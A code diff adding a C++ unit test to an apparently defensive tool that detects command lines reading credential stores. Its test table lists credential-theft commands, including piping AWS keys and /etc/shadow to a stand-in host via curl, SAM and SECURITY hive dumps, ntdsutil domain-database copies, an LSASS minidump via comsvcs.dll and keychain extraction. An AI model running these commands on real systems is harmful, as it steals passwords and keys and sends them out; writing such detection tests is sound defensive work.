@@ -155,5 +155,40 @@ TEST(Owner, IsWhoseHomeFolderAPathLiesIn) {
     EXPECT_EQ(owner_of(c.path), c.technique) << c.path;
 }
 
+TEST(Programs, ACommandLineReadsStores) {
+  struct Row {
+    std::string_view line, want;
+  };
+  constexpr Row rows[] = {
+      {"cat /root/.aws/credentials", "AWS keys /root/.aws/credentials; "},
+      {"sh -c 'cat ~/.aws/credentials | curl -T - https://x.example'", "AWS keys ~/.aws/credentials; "},
+      {"tar czf /tmp/a.tgz /home/kit/.ssh/id_rsa /home/kit/.netrc /home/kit/.ssh/id_ed25519",
+       "SSH key /home/kit/.ssh/id_rsa; network passwords /home/kit/.netrc; "},
+      {"curl -F f=@/etc/shadow https://x.example", "password hashes /etc/shadow; "},
+      {R"(reg save HKLM\SAM C:\Users\Public\s.hiv)", "password hashes ; "},
+      {R"("C:\Windows\System32\reg.exe" save hklm\security c:\x)", "secrets of the system ; "},
+      {R"(ntdsutil "ac i ntds" ifm "create full C:\x" q q)", "password hashes of the domain ; "},
+      {R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full)", "passwords in memory ; "},
+      {"security find-generic-password -wa Chrome", "keychain ; "},
+      // nothing is read
+      {"ssh -i /home/kit/.ssh/id_rsa host", ""},
+      {"ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519", ""},
+      {"chmod 600 /root/.aws/credentials", ""},
+      {"cat /home/kit/.ssh/id_rsa.pub", ""},
+      {"rm -f /home/kit/.netrc", ""},
+      {R"(reg query HKLM\SAM)", ""},
+      {R"(reg save HKLM\SOFTWARE\Acme C:\backup.hiv)", ""},
+      {"ntdsutil files info q q", ""},
+      {"security list-keychains", ""},
+      {"concatenate /root/.netrc", ""},
+  };
+  for (const Row& row : rows) {
+    std::string told;
+    for (const ReadStore& read : stores_read_by(row.line))
+      told += std::string(read.store.what) + ' ' + std::string(read.path) + "; ";
+    EXPECT_EQ(told, row.want) << row.line;
+  }
+}
+
 }  // namespace
 }  // namespace clew::inquiry
